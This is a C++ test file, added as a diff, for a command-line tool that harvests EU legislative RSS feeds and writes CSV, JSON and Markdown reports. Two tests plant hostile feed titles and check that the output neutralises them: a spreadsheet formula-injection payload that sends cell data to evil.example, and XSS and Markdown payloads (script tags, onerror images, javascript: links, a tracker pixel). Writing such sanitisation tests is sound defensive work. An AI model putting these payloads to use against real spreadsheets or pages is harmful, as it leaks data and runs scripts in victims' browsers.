@@ -1,0 +1,281 @@
+// What omvarld writes for other programs and people to open: CSV that a real
+// CSV reader reads column for column, machine formats that list everything,
+// a Markdown digest that a real Markdown renderer (GitHub's cmark-gfm) shows
+// as text, CSV cells a spreadsheet will not run; and the read-only commands
+// on a missing, mistyped or read-only database.
+#include <gtest/gtest.h>
+#include <rapidjson/document.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <filesystem>
+
+#include "analysis/csv_table.h"
+#include "core/text.h"
+#include "store/sqlite.h"
+#include "support/test_support.h"
+
+namespace omvarld {
+namespace {
+
+using test::run_omvarld;
+namespace fs = std::filesystem;
+
+std::string xml_text(const std::string& s) {
+  std::string out;
+  for (char c : s) {
+    if (c == '&')
+      out += "&amp;";
+    else if (c == '<')
+      out += "&lt;";
+    else
+      out.push_back(c);
+  }
+  return out;
+}
+
+// An RSS feed with `n` items about public transport in cities (so each is
+// flagged), the first ones with hostile titles.
+std::string feed(int n, const std::vector<std::string>& hostile_titles) {
+  std::string s = "<rss version=\"2.0\"><channel><title>EUR-Lex</title>";
+  for (int i = 0; i < n; ++i) {
+    const std::string title =
+        i < static_cast<int>(hostile_titles.size())
+            ? hostile_titles[static_cast<size_t>(i)]
+            : "Urban mobility: public transport in cities, part " + std::to_string(i);
+    s += "<item><title>" + xml_text(title) + "</title><link>https://eur-lex.europa.eu/" +
+         std::to_string(i) + "</link><guid>COM-" + std::to_string(i) +
+         "</guid><description>Public transport and urban mobility in municipalities"
+         "</description></item>";
+  }
+  return s + "</channel></rss>";
+}
+
+struct Harvested {
+  test::TempDir dir;
+  test::LoopbackHttpServer server;
+  std::string db;
+};
+
+void harvest(Harvested& h, int n, const std::vector<std::string>& hostile = {}) {
+  const std::string body = feed(n, hostile);
+  h.server.server.Get("/feed", [body](const httplib::Request&, httplib::Response& res) {
+    res.set_content(body, "application/rss+xml");
+  });
+  h.db = h.dir.file("omvarld.db");
+  auto r = run_omvarld({"harvest", "--db", h.db, "--feed", h.server.url("/feed"), "--kind", "rss"});
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+}
+
+TEST(CliOutputs, FlagsCsvHeaderAndRowsAgreeForACsvReader) {
+  Harvested h;
+  harvest(h, 3, {"Clean vehicles, \"charging\" points\nand more"});
+  auto r = run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "csv"});
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+  auto table = parse_csv(r.out, "flags --format csv");
+  ASSERT_TRUE(table.ok()) << table.error().message;
+  ASSERT_EQ(table->rows.size(), 3u);
+  for (const auto& row : table->rows) EXPECT_EQ(row.size(), table->header.size());
+  auto title = table->column("title");
+  auto link = table->column("link");
+  auto model_p = table->column("model_p");
+  ASSERT_TRUE(title && link && model_p);
+  bool found = false;
+  for (const auto& row : table->rows) {
+    EXPECT_EQ(row[*link].text.rfind("https://eur-lex.europa.eu/", 0), 0u) << row[*link].text;
+    EXPECT_EQ(row[*model_p].text, "");  // no model trained
+    found |= row[*title].text == "Clean vehicles, \"charging\" points and more";
+  }
+  EXPECT_TRUE(found) << r.out;
+}
+
+TEST(CliOutputs, MachineFormatsListEverythingAndACutTableSaysSo) {
+  Harvested h;
+  harvest(h, 620);
+  auto csv = run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "csv"});
+  ASSERT_EQ(csv.exit_code, 0) << csv.err;
+  auto table = parse_csv(csv.out, "csv");
+  ASSERT_TRUE(table.ok());
+  EXPECT_EQ(table->rows.size(), 620u);
+  auto json = run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "json"});
+  ASSERT_EQ(json.exit_code, 0);
+  rapidjson::Document d;
+  d.Parse(json.out.c_str());
+  ASSERT_TRUE(d.IsArray());
+  EXPECT_EQ(d.Size(), 620u);
+  auto limited =
+      run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "json", "--limit", "7"});
+  d.Parse(limited.out.c_str());
+  ASSERT_TRUE(d.IsArray());
+  EXPECT_EQ(d.Size(), 7u);
+  EXPECT_NE(limited.err.find("only the first 7"), std::string::npos) << limited.err;
+  auto shown = run_omvarld({"flags", "--db", h.db, "--status", "all"});
+  ASSERT_EQ(shown.exit_code, 0);
+  EXPECT_NE(shown.err.find("only the first 500 items are shown"), std::string::npos) << shown.err;
+  EXPECT_EQ(std::count(shown.out.begin(), shown.out.end(), '\n'), 502);  // header, rule, 500
+}
+
+TEST(CliOutputs, CsvCellsASpreadsheetWouldRunAreNeutralised) {
+  Harvested h;
+  harvest(h, 2,
+          {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Urban mobility\")",
+           "@SUM(1+1) public transport in cities"});
+  auto r = run_omvarld({"flags", "--db", h.db, "--status", "all", "--format", "csv"});
+  ASSERT_EQ(r.exit_code, 0);
+  auto table = parse_csv(r.out, "csv");
+  ASSERT_TRUE(table.ok());
+  auto title = table->column("title");
+  ASSERT_TRUE(title);
+  int seen = 0;
+  for (const auto& row : table->rows) {
+    const std::string& t = row[*title].text;
+    EXPECT_NE(t[0], '=') << t;
+    EXPECT_NE(t[0], '@') << t;
+    if (t == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Urban mobility\")" ||
+        t == "'@SUM(1+1) public transport in cities")
+      ++seen;
+  }
+  EXPECT_EQ(seen, 2) << r.out;
+}
+
+TEST(CliOutputs, MarkdownDigestRendersHostileTitlesAsText) {
+  if (!fs::exists("/usr/bin/cmark-gfm"))
+    GTEST_SKIP() << "cmark-gfm is not installed (scripts/test.sh installs it)";
+  Harvested h;
+  harvest(
+      h, 5,
+      {"<script>alert(1)</script> urban mobility", "<img src=x onerror=alert(2)> public transport",
+       "[click here](javascript:alert(3)) for cities",
+       "![tracker](https://tracker.example/pixel.gif) urban mobility in cities",
+       "**bold** _claim_ | pipe ` code # urban mobility"});
+  auto r = run_omvarld({"report", "flags", "--db", h.db, "--lang", "en", "--markdown", "--out",
+                        h.dir.file("flags.html")});
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+  const std::string md = test::read_file(h.dir.file("flags.md"));
+  test::write_file(h.dir.file("in.md"), md);
+  const std::string cmd = "/usr/bin/cmark-gfm --unsafe -e table -e autolink -e strikethrough " +
+                          h.dir.file("in.md") + " > " + h.dir.file("out.html");
+  ASSERT_EQ(std::system(cmd.c_str()), 0);
+  // --unsafe: the renderer passes raw HTML through, as many do; none may be there.
+  const std::string html = test::read_file(h.dir.file("out.html"));
+  EXPECT_EQ(html.find("<script"), std::string::npos) << html;
+  EXPECT_EQ(html.find("<img"), std::string::npos) << html;
+  EXPECT_EQ(html.find("href=\"javascript"), std::string::npos) << html;
+  EXPECT_EQ(html.find("href=\"https://tracker.example"), std::string::npos) << html;
+  EXPECT_EQ(html.find("<strong>bold"), std::string::npos) << html;
+  EXPECT_EQ(html.find("<em>claim"), std::string::npos) << html;
+  EXPECT_EQ(html.find("<code>"), std::string::npos) << html;
+  EXPECT_EQ(html.find("<table"), std::string::npos) << html;
+  // The text is there, as text.
+  EXPECT_NE(html.find("&lt;script&gt;alert(1)&lt;/script&gt; urban mobility"), std::string::npos)
+      << html;
+  EXPECT_NE(html.find("[click here](javascript:alert(3)) for cities"), std::string::npos) << html;
+  EXPECT_NE(html.find("![tracker](https://tracker.example/pixel.gif) urban"), std::string::npos)
+      << html;
+  EXPECT_NE(html.find("**bold** _claim_ | pipe ` code # urban mobility"), std::string::npos)
+      << html;
+  // The items' own links are links.
+  EXPECT_NE(html.find("<a href=\"https://eur-lex.europa.eu/0\">"), std::string::npos) << html;
+}
+
+TEST(CliOutputs, ReadOnlyCommandsRefuseAMissingDatabaseAndCreateNothing) {
+  test::TempDir dir;
+  const std::string db = dir.file("typo/omvarld.db");
+  const std::vector<std::vector<std::string>> commands = {
+      {"flags", "--db", db},
+      {"flag", "1", "--db", db},
+      {"rank", "--db", db},
+      {"series", "--db", db, "--dataset", "urb_cpop1"},
+      {"runs", "--db", db},
+      {"catalogue", "search", "population", "--db", db},
+      {"report", "flags", "--db", db, "--out", dir.file("flags.html")},
+      {"report", "benchmark", "--db", db, "--out", dir.file("b.html"), "--uncertainty", "0"},
+      {"backup", "--db", db, dir.file("copy.db")},
+  };
+  for (const auto& args : commands) {
+    auto r = run_omvarld(args);
+    EXPECT_EQ(r.exit_code, 1) << args[0] << ": " << r.err;
+    EXPECT_NE(r.err.find("no database at " + db), std::string::npos) << args[0] << ": " << r.err;
+    EXPECT_NE(r.err.find("omvarld init"), std::string::npos) << r.err;
+    EXPECT_FALSE(fs::exists(dir.file("typo"))) << args[0];
+  }
+  EXPECT_EQ(std::distance(fs::directory_iterator(dir.path()), fs::directory_iterator()), 0);
+  // init creates it; then the same commands work on the empty database.
+  auto init = run_omvarld({"init", "--db", db});
+  ASSERT_EQ(init.exit_code, 0) << init.err;
+  EXPECT_TRUE(fs::exists(db));
+  EXPECT_TRUE(fs::exists(dir.file("typo/omvarld.decisions.db")));
+  EXPECT_EQ(run_omvarld({"flags", "--db", db}).exit_code, 0);
+  EXPECT_EQ(run_omvarld({"runs", "--db", db}).exit_code, 0);
+}
+
+TEST(CliOutputs, FileThatIsNotADatabaseIsNamedSo) {
+  test::TempDir dir;
+  test::write_file(dir.file("notes.txt"), std::string(4096, 'x'));
+  auto r = run_omvarld({"flags", "--db", dir.file("notes.txt")});
+  EXPECT_EQ(r.exit_code, 2);
+  EXPECT_NE(r.err.find("is not an SQLite database"), std::string::npos) << r.err;
+  EXPECT_EQ(r.err.find("writable"), std::string::npos) << r.err;
+  auto h = run_omvarld({"harvest", "--db", dir.file("notes.txt"), "--only", "feeds"});
+  EXPECT_NE(h.exit_code, 0);
+  EXPECT_EQ(test::read_file(dir.file("notes.txt")), std::string(4096, 'x'));
+}
+
+TEST(CliOutputs, NegativeSchemaVersionIsRefusedNotACrash) {
+  Harvested h;
+  harvest(h, 1);
+  {
+    auto db = Db::open(h.db);
+    ASSERT_TRUE(db.ok() && db->exec("PRAGMA user_version=-1").ok());
+  }
+  auto r = run_omvarld({"flags", "--db", h.db});
+  EXPECT_EQ(r.exit_code, 1) << r.err;
+  EXPECT_NE(r.err.find("schema version -1"), std::string::npos) << r.err;
+}
+
+// Runs the binary as an unprivileged user when the tests run as root (CI),
+// so that file permissions mean what they say.
+test::RunResult run_unprivileged(const std::vector<std::string>& args) {
+  if (::geteuid() != 0) return run_omvarld(args);
+  std::vector<std::string> wrapped = {"--reuid=65534", "--regid=65534", "--clear-groups",
+                                      OMVARLD_BINARY};
+  wrapped.insert(wrapped.end(), args.begin(), args.end());
+  return test::run_program("/usr/bin/setpriv", wrapped);
+}
+
+TEST(CliOutputs, ReadOnlyDatabaseFileCanBeRead) {
+  if (::geteuid() == 0 && !fs::exists("/usr/bin/setpriv"))
+    GTEST_SKIP() << "running as root without setpriv to drop privileges";
+  Harvested h;
+  harvest(h, 3);
+  // The folder and both files read-only (a database on a read-only share).
+  fs::permissions(h.dir.path(), fs::perms::owner_all | fs::perms::group_read |
+                                    fs::perms::group_exec | fs::perms::others_read |
+                                    fs::perms::others_exec);
+  test::TempDir out;
+  fs::permissions(out.path(), fs::perms::all);
+  for (const std::string& f : {h.db, h.dir.file("omvarld.decisions.db")})
+    fs::permissions(f, fs::perms::owner_read | fs::perms::group_read | fs::perms::others_read);
+  for (const char* suffix : {"-wal", "-shm"})
+    for (const std::string& f : {h.db, h.dir.file("omvarld.decisions.db")})
+      if (fs::exists(f + suffix))
+        fs::permissions(f + suffix,
+                        fs::perms::owner_read | fs::perms::group_read | fs::perms::others_read);
+  auto flags = run_unprivileged({"flags", "--db", h.db, "--status", "all", "--format", "csv"});
+  EXPECT_EQ(flags.exit_code, 0) << flags.err;
+  EXPECT_EQ(std::count(flags.out.begin(), flags.out.end(), '\n'), 4) << flags.out;
+  auto runs = run_unprivileged({"runs", "--db", h.db});
+  EXPECT_EQ(runs.exit_code, 0) << runs.err;
+  auto report = run_unprivileged(
+      {"report", "flags", "--db", h.db, "--out", out.file("flags.html"), "--lang", "en"});
+  EXPECT_EQ(report.exit_code, 0) << report.err;
+  EXPECT_TRUE(fs::exists(out.file("flags.html")));
+  EXPECT_NE(report.err.find("not recorded"), std::string::npos) << report.err;
+  // Deciding needs write access, and says so.
+  auto decide = run_unprivileged({"flag", "1", "--db", h.db, "--status", "relevant"});
+  EXPECT_EQ(decide.exit_code, 1) << decide.err;
+  fs::permissions(h.dir.path(), fs::perms::owner_all);
+}
+
+}  // namespace
+}  // namespace omvarld
